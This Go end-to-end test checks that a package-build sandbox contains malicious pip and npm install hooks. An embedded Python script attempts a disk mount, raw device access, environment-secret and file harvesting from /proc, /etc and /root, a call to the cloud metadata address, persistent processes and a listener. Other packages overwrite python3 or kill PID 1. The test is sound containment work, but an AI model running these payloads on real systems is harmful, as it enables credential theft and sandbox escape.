package e2e

import (
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/atoll-run/atoll/atolltest"
	"github.com/atoll-run/atoll/internal/image"
)

// evilScript is what the malicious packages' install code runs, as root: each
// attempt says how it went. What it writes to the files below it is its own
// layer's, as for any package; everything else has to fail or to be without
// effect.
const evilScript = `
import ctypes, glob, os, socket, subprocess
def attempt(name, f):
    try:
        print("evil:", name, "->", f(), flush=True)
    except BaseException as e:
        print("evil:", name, "-> refused:", type(e).__name__, flush=True)
def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "w").write(text)
    return "done"
def reach(host, port):
    s = socket.create_connection((host, port), 3)
    s.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
    said = s.recv(100)
    if not said or b" 403 " in said: raise OSError("the gateway says no")
    return "REACHED"
def mount():
    if ctypes.CDLL(None, use_errno=True).mount(b"/dev/vda", b"/mnt", b"ext4", 0, None) != 0: raise OSError(ctypes.get_errno(), "mount")
    return "MOUNTED"
def device():
    os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0))
    open("/tmp/disk", "rb").read(1)
    return "READ"
def host():
    seen = [p for p in glob.glob("/proc/*/root/*/layers") + glob.glob("/proc/1/root/root/.cache/atoll") + glob.glob("/var/lib/atoll*")]
    if not seen: raise OSError("nothing")
    return "SEEN " + str(seen)
def secret():
    seen = [k for k, v in os.environ.items() if "sk-atoll" in v or k.startswith(("ATOLL_API", "ATOLL_MODEL", "ATOLL_URL"))]
    if not seen: raise OSError("nothing")
    return "SEEN " + str(seen)
def look():
    # Everything that a process can find out about itself and its neighbours, and
    # all that lies where secrets do.
    with open("/usr/local/evil-seen", "wb") as seen:
        for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/mountinfo", "/proc/[0-9]*/maps", "/proc/net/*", "/proc/keys", "/proc/cmdline"):
            for name in glob.glob(pattern):
                try: seen.write(name.encode() + b"\n" + open(name, "rb").read(1 << 20) + b"\n")
                except OSError: pass
        for top in ("/etc", "/root", "/home", "/run", "/tmp", "/var/tmp", "/var/lib/atoll", "/opt", "/srv", "/mnt", "/workspace", "/dev/shm"):
            for parent, _, names in os.walk(top):
                for name in (os.path.join(parent, n) for n in names):
                    if os.path.isfile(name) and os.path.getsize(name) < 1 << 20:
                        try: seen.write(name.encode() + b"\n" + open(name, "rb").read() + b"\n")
                        except OSError: pass
        return "%d bytes" % seen.tell()
def late():
    subprocess.Popen(["setsid", "sh", "-c", "while :; do date > /usr/local/evil-late; sleep 0.05; done"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return "left behind"
def listen():
    subprocess.Popen(["setsid", "python3", "-c", "import socket, time; s = socket.socket(); s.bind((\"0.0.0.0\", 48123)); s.listen(); time.sleep(1000)"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return "left behind"
attempt("layer below", lambda: write("/usr/local/lib/node_modules/left-pad/index.js", "throw new Error('evil')"))
attempt("base", lambda: write("/bin/evil", "evil"))
for d in ("/root/.cache/pip/http-v2/evil", "/root/.npm/_cacache/evil", "/var/cache/apt/archives/evil.deb", "/tmp/atoll-build/npm/evil", "/tmp/atoll-build/home/.npmrc"):
    attempt("cache " + d, lambda: write(d, "evil"))
attempt("mount", mount)
attempt("device", device)
attempt("host", host)
attempt("secret", secret)
attempt("metadata", lambda: reach("169.254.169.254", 80))
attempt("another host", lambda: reach("elsewhere.example.com", 80))
attempt("look around", look)
attempt("late", late)
attempt("listen", listen)
`

// lying replaces pip's listing: names of any kind, and more than anybody wants.
const lying = `#!/bin/sh
case "$*" in
*"pip list"*) exec /usr/bin/python3 -c 'import json; print(json.dumps([{"name": "NAME", "version": "1.0"}, {"name": "six", "version": "6\x1b[31m6\n6"}] + [{"name": "x" * 5000, "version": str(i)} for i in range(500)]))' ;;
esac
exec /usr/bin/python3 "$@"
`

// wheel is the end of a build that succeeds.
const wheel = `
    import zipfile
    name = "NAME-1.0-py3-none-any.whl"
    with zipfile.ZipFile(f"{directory}/{name}", "w") as z:
        info = "NAME-1.0.dist-info/"
        z.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: NAME\nVersion: 1.0\n")
        z.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr(info + "RECORD", "")
    return name`

func evilBackends() map[string]string {
	python := func(script string) string { return fmt.Sprintf("\n    exec(%q, {})", script) }
	end := func(name string) string { return strings.ReplaceAll(wheel, "NAME", name) }
	return map[string]string{
		"atoll-e2e-evil": "\n    print('evil: begins', flush=True)" + fmt.Sprintf("\n    out = subprocess.run(['python3', '-c', %q], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True).stdout", evilScript) +
			"\n    open('/usr/local/evil-report', 'w').write(out)" + end("atoll_e2e_evil"),
		"atoll-e2e-liar": python("import os; open('/usr/local/bin/python3', 'w').write("+fmt.Sprintf("%q", strings.ReplaceAll(lying, "NAME", "atoll-e2e-liar"))+"); os.chmod('/usr/local/bin/python3', 0o755)") +
			end("atoll_e2e_liar"),
		"atoll-e2e-killer": python("import os, signal, time\nfor s in (signal.SIGTERM, signal.SIGKILL):\n    os.kill(1, s)\n    time.sleep(1)") + end("atoll_e2e_killer"),
		"atoll-e2e-reaper": python("import os, signal\nos.kill(-1, signal.SIGKILL)") + end("atoll_e2e_reaper"),
	}
}

// addNpm puts an npm package on the mirror, in the registry below a path.
func (m *mirror) addNpm(t *testing.T, registry, name string, manifest object, files ...file) {
	t.Helper()
	manifest["name"], manifest["version"] = name, "1.0.0"
	content, err := json.Marshal(manifest)
	if err != nil {
		t.Fatal(err)
	}
	packed := tarball(t, append(files, file{"package/package.json", string(content)})...)
	sum := sha512.Sum512(packed)
	archive := "/files" + registry + name + ".tgz"
	manifest["hasInstallScript"] = manifest["scripts"] != nil
	manifest["dist"] = object{"tarball": "http://slow.example.com:" + mirrorPort + archive, "integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:])}
	document, err := json.Marshal(object{"name": name, "dist-tags": object{"latest": "1.0.0"}, "versions": object{"1.0.0": manifest}})
	if err != nil {
		t.Fatal(err)
	}
	m.put(archive, packed)
	m.put(registry+name, document)
}

// secrets are what a server's environment may hold, and nothing in a sandbox.
func secrets() []string {
	return []string{"ANTHROPIC_API_KEY=sk-ant-e2e-secret-model", "AWS_SECRET_ACCESS_KEY=e2e-secret-cloud", "PIP_INDEX_TOKEN=e2e-secret-index"}
}

// TestLayersMalicious builds packages whose install code attacks what it can
// reach. Whoever listed them gets what they did to their own layer; nobody else
// sees anything of it.
func TestLayersMalicious(t *testing.T) {
	m := newMirror(t)
	for name, does := range evilBackends() {
		m.addSource(t, name, does)
	}
	m.addNpm(t, "/npm/", "@evil/post", object{"scripts": object{"postinstall": "python3 evil.py > /usr/local/evil-report 2>&1"}}, file{"package/evil.py", evilScript})
	s := newServer(t, m.config(""))
	s.Stop(syscall.SIGTERM)
	s.Env = secrets()
	s.Start()
	agent := s.agent()
	const victims = `node -e 'if (require("left-pad")("1", 3) !== "  1") throw 1' && python3 -c 'import six; print(six.__version__)'`
	victim := s.environment(mirrored(object{"npm": []string{"left-pad@1.3.0"}, "pip": []string{"six==1.17.0"}}))
	b := s.builtAtLast(agent, victim)
	running := s.session(agent, victim)
	s.must(running, "cd /tmp && "+victims)
	before := map[string]map[string]string{}
	for _, l := range b.Layers {
		before[l.Key] = tree(t, s, l.Key)
	}

	evil := func(npm, pip []string) (string, build) {
		env := s.environment(mirrored(object{"npm": npm, "pip": pip}))
		return env, s.built(env)
	}
	type attacked struct{ log, report, seen string }
	all := map[string]attacked{}
	for name, lists := range map[string][2][]string{"pip": {{"left-pad@1.3.0"}, {"atoll-e2e-evil"}}, "npm": {{"left-pad@1.3.0", "@evil/post"}, {"six==1.17.0"}}} {
		env, b := evil(lists[0], lists[1])
		if b.Status != "ready" {
			t.Fatalf("%s: %+v %+v", name, b, b.Error)
		}
		id := s.session(agent, env)
		var log, seen string
		s.try("GET", "/atoll/v1/environments/"+env+"/build/log", nil, &log)
		report := s.must(id, "cat /usr/local/evil-report")
		if code := s.try("GET", "/atoll/v1/sessions/"+id+"/files?path=/usr/local/evil-seen", nil, &seen); code != 200 {
			t.Errorf("%s: what the script saw: %d", name, code)
		}
		all[name] = attacked{log, report, seen}
		t.Logf("%s:\n%s", name, report)
		for _, what := range []string{"mount", "device", "host", "secret", "metadata", "another host"} {
			if !strings.Contains(report, "evil: "+what+" -> refused") {
				t.Errorf("%s: %s was not refused:\n%s", name, what, report)
			}
		}
		// Nothing runs on, and no cache came with the layer.
		s.must(id, "! ls /root/.cache /root/.npm /var/cache/apt/archives/evil.deb /tmp/atoll-build 2>/dev/null | grep evil")
		s.must(id, "! bash -c '</dev/tcp/127.0.0.1/48123' 2>/dev/null && a=$(cat /usr/local/evil-late) && sleep 1 && test \"$a\" = \"$(cat /usr/local/evil-late)\"")
	}

	t.Run("E273", func(t *testing.T) {
		for name, a := range all {
			for _, at := range []string{"169.254.169.254:80", "elsewhere.example.com:80"} {
				if !strings.Contains(a.log, name+": warning: the install was kept from "+at+", and did without") {
					t.Errorf("%s: the log does not name what was refused, %s:\n%s", name, at, a.log)
				}
			}
		}
	})
	t.Run("E277", func(t *testing.T) {
		for name, a := range all {
			if len(a.seen) < 10_000 || !strings.Contains(a.seen, "/etc/passwd") || !strings.Contains(a.seen, "PATH=") {
				t.Errorf("%s: the script saw %d bytes", name, len(a.seen))
			}
			for _, secret := range append(secrets(), atolltest.Key, "ATOLL_API_KEY", s.Dir) {
				_, value, ok := strings.Cut(secret, "=")
				if strings.Contains(a.seen, secret) || ok && strings.Contains(a.seen, value) {
					t.Errorf("%s: the builder holds %s", name, secret)
				}
			}
		}
	})
	t.Run("liar", func(t *testing.T) {
		_, b := evil([]string{"left-pad@1.3.0"}, []string{"atoll-e2e-liar"})
		text := fmt.Sprintf("%+v", b)
		if b.Status != "ready" || len(text) > 1<<20 || strings.ContainsAny(text, "\x1b\n") {
			t.Errorf("a lying listing: %.2000q %+v", text, b.Error)
		}
	})
	t.Run("killers", func(t *testing.T) {
		for _, name := range []string{"atoll-e2e-killer", "atoll-e2e-reaper"} {
			_, b := evil([]string{"left-pad@1.3.0"}, []string{name})
			if b.Status != "failed" || b.Error == nil || b.Error.Kind != "install_error" || b.Error.Package != name ||
				!strings.HasPrefix(b.Error.Message, fmt.Sprintf("pip: installing failed for %q: pip was ended by SIGKILL", name)) {
				t.Errorf("%s: %+v %+v", name, b, b.Error)
			}
		}
	})

	waitFor(t, 30*time.Second, "the builders to be gone", func() bool { return len(builders(t, s)) == 0 })
	for key, was := range before {
		if diff := cmp.Diff(was, tree(t, s, key)); diff != "" {
			t.Errorf("a layer of the victim has changed:\n%s", diff)
		}
	}
	if v, err := image.VerifyLayers(t.Context(), filepath.Join(s.Dir, "layers")); err != nil || len(v.Damaged) > 0 {
		t.Errorf("the layers: %+v, %v", v, err)
	}
	s.must(running, "cd /tmp && "+victims)
	s.must(s.session(agent, victim), "cd /tmp && "+victims+" && ! ls /usr/local/evil* /bin/evil 2>/dev/null")
	// The next builds, above the layer that was attacked and anew, are clean.
	for _, lists := range [][2][]string{{{"left-pad@1.3.0"}, {"six==1.16.0"}}, {{"left-pad@1.2.0"}, {"six==1.17.0"}}} {
		next := s.environment(mirrored(object{"npm": lists[0], "pip": lists[1]}))
		if b := s.builtAtLast(agent, next); len(b.Layers) != 2 || len(b.Layers[1].Packages) != 1 {
			t.Errorf("the next build: %+v", b)
		}
		s.must(s.session(agent, next), "cd /tmp && "+victims+" && ! ls /usr/local/evil* /bin/evil 2>/dev/null")
	}
	tables, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, path := range tables {
		if text, _ := os.ReadFile(path); strings.Contains(string(text), "evil-late") && !strings.Contains(string(text), "e2e.test") {
			t.Errorf("a process of the attack is on the host: %q", text)
		}
	}
}
